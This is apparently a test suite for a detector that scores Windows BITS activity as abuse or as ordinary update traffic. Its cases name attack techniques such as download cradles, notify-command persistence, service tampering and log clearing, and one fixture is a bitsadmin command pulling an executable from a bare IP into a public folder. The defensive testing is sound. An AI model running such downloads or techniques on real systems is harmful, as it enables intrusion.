/** Scores of whole events: abuse of every kind of evidence, and the ordinary use that looks like it. */
import fc from 'fast-check';
import { assess, columnNames, columnsOf, defaultTuning } from '../../src/score/index.js';
import type { Facts } from '../../src/windows/index.js';
import { assessRow, commandLine, factsFor, file, made, url } from './events.js';

const score = (parts: Partial<Facts>): number => assess(made(parts), defaultTuning).score;
const address = url('198.51.100.7', { kind: 'http', text: 'http://198.51.100.7/a', address: 'public' });
const log: Partial<Facts> = { evidence: 'bitsclient', tools: ['bits'] };
const cmdlet: Partial<Facts> = { evidence: 'script', tools: ['cmdlet'], verbs: ['transfer'] };

test.each<[string, Partial<Facts>]>([
  ['log: a program into a profile from an unknown host', { ...log, verbs: ['job'], transfers: [{ source: url('files.example.net'), destination: file('C:\\Users\\pat\\AppData\\Roaming\\a.exe') }] }],
  ['log: a bare public address', { ...log, verbs: ['transferred'], transfers: [{ source: address }] }],
  ['log: a picture that becomes a program', { ...log, verbs: ['job'], transfers: [{ source: url('cdn.example.com', { extension: 'png' }), destination: file('C:\\d\\a.exe') }] }],
  ['log: a program of the neighbour in the temporary folder', { ...log, verbs: ['job'], transfers: [{ source: url('192.168.7.9', { kind: 'http', address: 'private', extension: 'exe', text: 'http://192.168.7.9/a.exe' }), destination: file('C:\\Windows\\Temp\\a.bin') }] }],
  ['log: a local file', { ...log, verbs: ['transferred'], transfers: [{ source: file('C:\\Windows\\System32\\cmd.exe') }] }],
  ['log: a throw-away drop', { ...log, verbs: ['job'], transfers: [{ source: url('transfer.sh'), destination: file('C:\\d\\a.dll') }] }],
  ['log: a client that has no business with BITS', { ...log, verbs: ['job'], actor: { image: 'C:\\Windows\\SysWOW64\\notepad.exe', name: 'notepad.exe' } }],
  ['log: bitsadmin', { ...log, verbs: ['job'], actor: { image: 'C:\\Windows\\System32\\bitsadmin.exe', name: 'bitsadmin.exe' } }],
  ['log: notify program set', { ...log, verbs: ['notifyset'] }],
  ['image: BitsProxy.dll in rundll32', { evidence: 'imageload', tools: ['com'], verbs: ['load'], actor: { image: 'C:\\Windows\\System32\\rundll32.exe', name: 'rundll32.exe' } }],
  ['file: a program landed in a profile', { evidence: 'file', tools: ['bits'], verbs: ['land'], transfers: [{ direction: 'download', destination: file('C:\\Users\\pat\\AppData\\Roaming\\a.exe') }] }],
  ['proxy: an upload', { evidence: 'proxy', tools: ['bits'], verbs: ['transferred'], transfers: [{ direction: 'upload', destination: url('files.example.net') }] }],
  ['proxy: an abused ending', { evidence: 'proxy', tools: ['bits'], verbs: ['transferred'], transfers: [{ direction: 'download', source: url('files-example.top') }] }],
  ['script: unknown host', { ...cmdlet, transfers: [{ direction: 'download', source: url('files.example.net'), destination: file('C:\\d\\a') }] }],
  ['script: a cradle', { ...cmdlet, transfers: [{ direction: 'download', source: { text: '$u', kind: 'variable' } }], others: ['iex'] }],
  ['script: URLs from a file', { ...cmdlet, verbs: ['transfer', 'addfile', 'resume', 'complete'], others: ['import-csv'], settings: [{ name: 'suspended' }] }],
  ['script: somebody else\'s jobs', { ...cmdlet, verbs: ['list', 'setowner'], settings: [{ name: 'owner' }, { name: 'allusers' }] }],
  ['WinRM', { tools: ['winrm'], verbs: ['create'], transfers: [{ direction: 'download', source: url('files.example.net') }] }],
  ['lock screen picture', { tools: ['desktopimgdownldr'], verbs: ['transfer'], transfers: [{ direction: 'download', source: url('files.example.net', { extension: 'jpg' }) }] }],
  ['notify child', { tools: ['notify'], verbs: ['notifyrun'], actor: { image: 'C:\\ProgramData\\a.exe' } }],
  ['service disabled', { evidence: 'service', tools: ['servicecontrol'], verbs: ['disable'] }],
  ['service stopped in a hidden way', { tools: ['servicecontrol'], verbs: ['stop'], hidden: ['quotes'] }],
  ['service DLL', { evidence: 'registry', tools: ['servicecontrol'], verbs: ['setservicedll'] }],
  ['policy', { tools: ['servicecontrol'], verbs: ['setpolicy'], settings: [{ name: 'policy', value: 'JobInactivityTimeout=0xffffffff' }] }],
  ['log cleared', { tools: ['eventlog'], verbs: ['clearlog'] }],
  ['token stolen', { tools: ['coercion'], verbs: ['coerce'] }],
])('%s alerts', (_, parts) => {
  expect(score(parts)).toBeGreaterThanOrEqual(50);
});

test.each<[string, Partial<Facts>]>([
  ['Windows Update', { ...log, verbs: ['job'], transfers: [{ source: url('au.download.windowsupdate.com', { kind: 'http' }), destination: file('C:\\Windows\\SoftwareDistribution\\Download\\a.exe') }] }],
  ['OneDrive', { ...log, verbs: ['job'], actor: { image: 'C:\\Users\\pat\\AppData\\Local\\Microsoft\\OneDrive\\OneDriveStandaloneUpdater.exe' }, transfers: [{ source: url('oneclient.sfx.ms'), destination: file('C:\\Users\\pat\\AppData\\Local\\Microsoft\\OneDrive\\setup.exe') }] }],
  ['Chrome', { ...log, verbs: ['job'], transfers: [{ source: url('edgedl.me.gvt1.com', { kind: 'http' }), destination: file('C:\\Users\\pat\\AppData\\Local\\Temp\\chrome_updater.exe') }] }],
  ['Chrome components on open hosting', { ...log, verbs: ['transferred'], transfers: [{ source: url('storage.googleapis.com') }] }],
  ['Firefox', { ...log, verbs: ['job'], transfers: [{ source: url('download-installer.cdn.mozilla.net'), destination: file('C:\\ProgramData\\Mozilla-abc\\updates\\a.mar') }] }],
  ['Adobe', { ...log, verbs: ['job'], transfers: [{ source: url('ardownload.adobe.com'), destination: file('C:\\Users\\pat\\AppData\\Local\\Adobe\\ARM\\AcroServicesUpdater.exe') }] }],
  ['Dropbox', { ...log, verbs: ['job'], transfers: [{ source: url('edge.dropboxstatic.com'), destination: file('C:\\Users\\pat\\AppData\\Local\\Temp\\DropboxClient.exe') }] }],
  ['ConfigMgr', { ...log, verbs: ['job'], transfers: [{ source: url('dp01', { kind: 'http', path: '/SMS_DP_SMSPKG$/ABC00012/setup.exe', extension: 'exe' }), destination: file('C:\\Windows\\ccmcache\\1\\setup.exe') }] }],
  ['a distribution point by its full name, in a row without more', { ...log, verbs: ['transferred'], transfers: [{ source: url('dp01.corp.example.com', { kind: 'http', path: '/SMS_DP_SMSPKG$/ABC00012/setup.exe', extension: 'exe' }) }] }],
  ['an unknown host, no more', { ...log, verbs: ['transferred'], transfers: [{ source: url('files.example.net') }] }],
  ['BitsProxy.dll in the service host', { evidence: 'imageload', tools: ['com'], verbs: ['load'], actor: { image: 'C:\\Windows\\System32\\svchost.exe' } }],
  ['BITS reports an error', { tools: ['notify'], verbs: ['notifyrun'], actor: { image: 'C:\\Windows\\System32\\wermgr.exe' } }],
  ['the policy key, without a value', { evidence: 'registry', tools: ['servicecontrol'], verbs: ['setpolicy'], settings: [{ name: 'policy', value: '=' }] }],
  ['start type toggled', { evidence: 'service', tools: ['servicecontrol'], verbs: ['enable'] }],
])('%s stays clearly below', (_, parts) => {
  expect(score(parts)).toBeLessThanOrEqual(25);
});

test.each([
  'bitsadmin /list /allusers /verbose', 'bitsadmin /reset', 'bitsadmin /reset /allusers', 'bitsadmin  /RawReturn /GetBytesTransferred job', 'bitsadmin /util /getieproxy localsystem', 'bitsadmin /util /version',
  'bitsadmin /Util /SetIEProxy LOCALSYSTEM MANUAL_PROXY proxy.example.com:8080 ""', 'bitsadmin /util /SetIEProxy NetworkService NO_PROXY', 'bitsadmin /Util /SetIEProxy LOCALSYSTEM AUTOSCRIPT http://server/proxy.pac',
  'bitsadmin /rawreturn /transfer "PHP download" https://windows.php.net/downloads/a.zip C:\\d\\a.zip', 'bitsadmin /RawReturn /TRANSFER d0 https://aka.ms/vs/15/release/vc_redist.x64.exe C:\\d\\vc_redist.x64.exe',
  'bitsadmin /transfer d /download /priority normal https://raw.githubusercontent.com/example/pack/mods.zip C:\\Users\\pat\\AppData\\Roaming\\mods.zip',
  'bitsadmin /rawreturn /setnotifycmdline {6F364A04-6299-4349-A8B6-34BED5E400EF} "cmd.exe" "/c waitfor /si UpdateLoaded"', 'bitsadmin /create job', 'bitsadmin /resume job', 'bitsadmin /complete job', 'bitsadmin /setpriority job HIGH',
])('%s stays below the threshold', (process) => {
  expect(assessRow(commandLine(process))?.score ?? 0).toBeLessThan(50);
});

test('a file event in the folder of a vendor speaks for an update, and elsewhere does not', () => {
  const land = (path: string): number => score({ evidence: 'file', tools: ['bits'], verbs: ['land'], transfers: [{ direction: 'download', destination: file(path) }] });
  expect(land('C:\\Users\\pat\\AppData\\Local\\Docker Desktop Installer\\update-1.exe')).toBeLessThan(40);
  expect(land('C:\\Users\\pat\\AppData\\Local\\Example\\update-1.exe')).toBeGreaterThanOrEqual(50);
});

test('a title alone makes nobody an updater', () => {
  const transfers = [{ source: url('files.example.net'), destination: file('C:\\Users\\pat\\AppData\\Roaming\\a.exe') }];
  expect(score({ ...log, transfers, jobs: [{ name: 'WU Client Download' }] })).toBe(score({ ...log, transfers, jobs: [{ name: 'n' }] }));
});

test('a publisher as the source does not excuse the program that the job starts', () => {
  expect(score({ verbs: ['transfer', 'setnotifycmdline'], transfers: [{ direction: 'download', source: url('download.microsoft.com') }], notify: [{ program: file('C:\\Users\\Public\\a.exe') }] })).toBeGreaterThanOrEqual(50);
});

test('every reason can be read on its own, and the columns are filled', () => {
  const facts = factsFor(commandLine('bitsadmin /transfer job http://198.51.100.7/a C:\\Users\\Public\\a.exe')) ?? made({});
  const columns = columnsOf(facts, assess(facts, defaultTuning));
  expect(Object.keys(columns)).toEqual([...columnNames]);
  expect(columns.bits_reasons.slice(0, 3)).toEqual([
    'bitsadmin downloaded http://198.51.100.7/a to C:\\Users\\Public\\a.exe', 'a person or a script, not an updater, moves files with bitsadmin', 'the server of http://198.51.100.7/a is a bare public IP address, where publishers of software use names',
  ]);
  expect(columns).toMatchObject({ bits_severity: ['high'], bits_direction: ['download'], bits_job: ['job'], bits_url: ['http://198.51.100.7/a'], bits_domain: ['198.51.100.7'], bits_path: ['C:\\Users\\Public\\a.exe'] });
  expect(columns.bits_techniques).toEqual(expect.arrayContaining(['T1197', 'T1105']));
});

test('a sentence has one line and an end, whatever the event says', () => {
  const columns = columnsOf(made({ verbs: ['transfer'], transfers: [{ direction: 'download', source: { text: `a\nb\u2028${'x'.repeat(10_000)}`, kind: 'unknown' } }] }), assess(made({}), defaultTuning));
  expect(columns.bits_reasons[0]).toMatch(/^[^\n\u2028]{1,300}$/u);
});

test('no facts make it throw, and long ones take no longer than they are long', () => {
  const place = fc.record({ text: fc.string(), kind: fc.constantFrom('http', 'https', 'unc', 'local', 'relative', 'variable', 'unknown' as const), host: fc.oneof(fc.domain(), fc.string()), path: fc.string() });
  fc.assert(
    fc.property(fc.array(fc.record({ source: place, destination: place })), fc.string(), fc.array(fc.string()), (transfers, image, others) => {
      const { score: risk } = assess(made({ transfers, others, verbs: others, actor: { image }, parent: { image } }), defaultTuning);
      return risk >= 0 && risk <= 100;
    }),
  );
  const long = 'a\\/.?&='.repeat(150_000);
  const started = performance.now();
  assess(made({ verbs: ['transfer'], transfers: [{ source: { text: long, kind: 'http', host: long, path: long, query: long }, destination: file(long) }], notify: [{ program: file(long), parameters: long }], actor: { image: long } }), defaultTuning);
  expect(performance.now() - started).toBeLessThan(1_000);
});
